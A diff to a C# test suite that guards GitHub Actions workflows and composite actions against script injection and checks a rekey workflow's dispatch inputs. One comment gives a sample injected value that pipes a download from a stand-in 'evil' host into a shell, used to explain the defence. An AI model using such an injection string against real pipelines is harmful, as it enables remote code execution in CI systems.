@@ -39,26 +39,57 @@ public sealed partial class InputTests
         // `x"; curl evil | sh; "` would run. Values reach scripts through env: instead.
         var offending = Workflow.Load(fileName).Jobs
             .SelectMany(j => j.Steps)
-            .Where(s => s.Run is not null && ExpressionPattern().IsMatch(s.Run))
-            .Select(s => $"{s}: {ExpressionPattern().Match(s.Run!).Value}")
+            .SelectMany(s => new[] { s.Run, s.Script }.Where(text => text is not null && ExpressionPattern().IsMatch(text)).Select(text => $"{s}: {ExpressionPattern().Match(text!).Value}"))
+            .Distinct()
             .ToList();
 
         Assert.True(offending.Count == 0, $"Expressions inside run: scripts:\n{string.Join("\n", offending)}");
     }
 
+    [Theory]
+    [MemberData(nameof(Actions))]
+    public void No_run_step_of_a_composite_action_expands_an_expression_and_each_runs_in_bash(string uses)
+    {
+        var action = CompositeAction.Load(uses);
+
+        Assert.Equal("composite", Workflow.Text(action.Runs, "using"));
+        Assert.NotEmpty(action.StepNodes);
+        foreach (var step in action.StepNodes.Where(s => Workflow.Text(s, "run") is not null))
+        {
+            var run = Workflow.Text(step, "run")!;
+            Assert.False(ExpressionPattern().IsMatch(run), $"{uses}: an expression inside run: {ExpressionPattern().Match(run).Value}");
+            Assert.Equal("bash", Workflow.Text(step, "shell"));
+        }
+
+        // Every input is declared with a description, and every input the steps name is declared.
+        Assert.All(action.Inputs, i => Assert.False(string.IsNullOrWhiteSpace(Workflow.Text(i.Value, "description")), $"{uses}: input {i.Key} has no description."));
+        var named = action.StepNodes.SelectMany(Workflow.AllScalars).SelectMany(v => InputReference().Matches(v).Select(m => m.Groups["name"].Value)).ToHashSet(StringComparer.Ordinal);
+        Assert.Empty(named.Except(action.Inputs.Keys));
+        Assert.Empty(action.Inputs.Keys.Except(named));
+    }
+
+    public static TheoryData<string> Actions => new(CompositeAction.All);
+
+    [GeneratedRegex(@"inputs\.(?<name>[A-Za-z0-9_-]+)")]
+    private static partial Regex InputReference();
+
     [Fact]
-    public void The_dispatch_form_asks_for_environment_cluster_phase_key_dry_run_and_the_run_to_resume()
+    public void The_dispatch_form_asks_for_environment_cluster_phase_strategy_key_dry_run_and_the_run_to_resume()
     {
         var inputs = Workflow.Load("rekey.yml").DispatchInputs;
 
-        Assert.Equal(["cluster", "dry-run", "environment", "kms-key", "phase", "run-id"], inputs.Keys.Order(StringComparer.Ordinal));
+        Assert.Equal(["cluster", "dry-run", "environment", "kms-key", "phase", "run-id", "sequences-advanced", "strategy"], inputs.Keys.Order(StringComparer.Ordinal));
+        Assert.Equal("boolean", Workflow.Text(inputs["sequences-advanced"], "type"));
         Assert.Equal("string", Workflow.Text(inputs["run-id"], "type"));
         Assert.Equal("environment", Workflow.Text(inputs["environment"], "type"));
         Assert.Equal("boolean", Workflow.Text(inputs["dry-run"], "type"));
         Assert.Equal("choice", Workflow.Text(inputs["phase"], "type"));
         Assert.Equal(
-            ["plan", "cutover", "backup", "rollback", "cleanup"],
+            ["plan", "dress-rehearsal", "cutover", "backup", "rollback", "cleanup"],
             Workflow.AllScalars(Workflow.Child(inputs["phase"], "options")!));
+        Assert.Equal("choice", Workflow.Text(inputs["strategy"], "type"));
+        Assert.Equal("auto", Workflow.Text(inputs["strategy"], "default"));
+        Assert.Equal(["auto", "blue-green", "restore-swap"], Workflow.AllScalars(Workflow.Child(inputs["strategy"], "options")!));
     }
 
     [GeneratedRegex(@"\$\{\{[^}]*\}\}")]
